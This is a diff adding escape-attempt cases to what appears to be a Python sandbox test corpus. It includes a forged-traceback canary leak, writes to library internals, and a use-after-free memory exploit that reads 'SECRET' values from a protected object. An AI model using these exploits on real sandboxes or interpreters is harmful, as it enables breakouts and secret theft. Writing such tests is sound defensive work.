@@ -681,6 +681,17 @@ print(typing.get_type_hints(A, globals()))
 ask._＿defaults＿＿ = ()
 
 === exception .obj and tracebacks
+import traceback
+class Fake:
+    def __init__(self, k): vars(self).update(k)
+    def __getattr__(self, n): return None
+code = Fake({"co_filename": "$CANARY", "co_name": "x", "co_qualname": "x", "co_positions": lambda: iter([])})
+frame = Fake({"f_code": code, "f_globals": {}, "f_locals": {}, "f_lineno": 1})
+tb = Fake({"tb_frame": frame, "tb_lasti": -1, "tb_lineno": 1})
+class G(ExceptionGroup): exceptions = [Fake({"__traceback__": tb})]
+try: raise G("x", [ValueError()])
+except G: print(traceback.format_exc())
+---
 try:
     print.nosuch
 except AttributeError as e:
@@ -2489,6 +2500,12 @@ class A:
 A.owned.__get__(ask)
 
 === writes by the library
+import statistics
+statistics.NormalDist.__slots__["owned"] = 1
+---
+import textwrap
+textwrap.TextWrapper.unicode_whitespace_trans[ord("a")] = ord("b")
+---
 import typing
 typing.final(ask)
 ---
@@ -3263,6 +3280,28 @@ class T(str):
 raise SyntaxError("x", ("f", 1, 1, T("x")))
 
 === library code on foreign objects
+import array, struct
+N = 1 << 24
+fake = struct.pack("<QQQQQQQ", 1 << 20, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
+a = array.array("Q", [0]) * N
+class I:
+    def __index__(self):
+        global L
+        del a[2:]
+        L = [None] * (N // 2)
+        return id(fake) + 32
+a[N - 2000] = I()
+mem = [x for x in L if x is not None][0]
+word = lambda addr: int.from_bytes(mem[addr : addr + 8], "little")
+keys = word(word(id(ask) + 16) + 32)
+at = keys + 32 + (1 << mem[keys + 9])
+step, skip = (24, 8) if mem[keys + 10] == 0 else (16, 0)
+for i in range(word(keys + 24)):
+    key, value = word(at + i * step + skip), word(at + i * step + skip + 8)
+    if key and value and mem[key + 32 : key + 60].find(b"SECRET") >= 0:
+        print(mem[value + 32 : value + 32 + word(value + 16) + 24])
+mem[id(ask) + 16 : id(ask) + 16] = b""
+---
 import contextlib
 class Z: pass
 z = Z(); z._stream = "modules"; z._old_targets = []; z._new_target = {}
